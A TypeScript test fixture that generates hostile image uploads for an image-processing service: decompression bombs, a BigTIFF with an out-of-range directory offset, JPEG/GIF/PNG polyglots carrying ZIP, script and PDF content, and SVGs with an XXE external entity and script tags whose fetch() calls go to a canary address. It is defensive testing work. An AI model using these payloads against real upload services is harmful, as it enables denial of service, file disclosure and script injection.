import sharp from 'sharp';
import { gifOfFrames, gifOfLargeFrame, pngOfZeros, webpOfOneColour } from './bombs.ts';
import type { HostileFile } from './hostile-file.ts';
import { zipFile } from './zip-file.ts';

const IFD_OFFSET = 8;

const svg = (canary: string): string =>
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]>` +
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">` +
  `<script href="${canary}/script.js">fetch('${canary}/fetch')</script>` +
  `<image xlink:href="${canary}/image.png" width="10" height="10"/><text>&x;</text></svg>`;

const bigTiffWithDistantDirectory = (tiff: Buffer): Buffer => {
  const bytes = Buffer.from(tiff);
  bytes.writeBigUInt64LE(2n ** 63n + 8n, IFD_OFFSET);
  return bytes;
};

const bombs = (): HostileFile[] => {
  const refused = { ends: ['degraded'], code: 'too_many_pixels' } as const;
  return [
    {
      ...refused,
      name: 'a PNG of 900 megapixels',
      filetype: 'image/png',
      bytes: pngOfZeros({ width: 30_000, height: 30_000, bits: 1, colour: 'grey' }),
    },
    {
      // Just within the limit, and 392 MB when decoded.
      name: 'a PNG of 49 megapixels with 64 bits each',
      filetype: 'image/png',
      bytes: pngOfZeros({ width: 7_000, height: 7_000, bits: 16, colour: 'rgba' }),
      ends: ['ready'],
    },
    {
      ...refused,
      name: 'a WebP of 268 megapixels in 32 bytes',
      filetype: 'image/webp',
      bytes: webpOfOneColour(16_383, 16_383),
    },
    {
      name: 'a GIF of 2,000 frames of 4 megapixels',
      filetype: 'image/gif',
      bytes: gifOfFrames(2_048, 2_000),
      // Too many to keep it animated; its first frame is still a picture.
      ends: ['ready'],
    },
    {
      ...refused,
      name: 'a GIF of 4,295 megapixels',
      filetype: 'image/gif',
      bytes: gifOfLargeFrame(65_535),
    },
  ];
};

/** @param photo a JPEG @param canary an address that nothing may connect to */
export const hostilePictures = async (photo: Buffer, canary: string): Promise<HostileFile[]> => {
  const small = sharp(photo).resize(200);
  const png = await small.clone().png().toBuffer();
  const gif = await small.clone().gif().toBuffer();
  const bigTiff = await small.clone().tiff({ bigtiff: true }).toBuffer();
  const script = Buffer.from(`*/=1;fetch("${canary}/polyglot");//<script src="${canary}/a.js"></script>`);
  const archive = zipFile([{ name: 'index.html', content: script }]);
  const picture = { ends: ['ready'] } as const;
  return [
    ...bombs(),
    { ...picture, name: 'a photo with a 64-bit IFD', filetype: 'image/tiff', bytes: bigTiff },
    {
      name: 'a 64-bit IFD that is far away',
      filetype: 'image/tiff',
      bytes: bigTiffWithDistantDirectory(bigTiff),
      ends: ['degraded'],
      code: 'unreadable',
    },
    {
      ...picture,
      name: 'a JPEG that is a ZIP too',
      filetype: 'image/jpeg',
      bytes: Buffer.concat([photo, archive]),
    },
    {
      ...picture,
      name: 'a GIF that is a script too',
      filetype: 'image/gif',
      bytes: Buffer.concat([gif, script]),
    },
    {
      ...picture,
      name: 'a PNG that is a PDF too',
      filetype: 'image/png',
      bytes: Buffer.concat([png, Buffer.from(`%PDF-1.7\n1 0 obj<</URI(${canary})>>endobj\n%%EOF\n`)]),
    },
    {
      ...picture,
      // A document: delivered as an attachment, never rendered.
      name: 'an SVG with a script',
      filetype: 'image/svg+xml',
      bytes: Buffer.from(svg(canary)),
    },
    {
      name: 'an SVG that calls itself a PNG',
      filetype: 'image/png',
      bytes: Buffer.from(svg(canary)),
      // The content decides: a document, delivered as an attachment, never rendered.
      ends: ['ready'],
    },
  ];
};
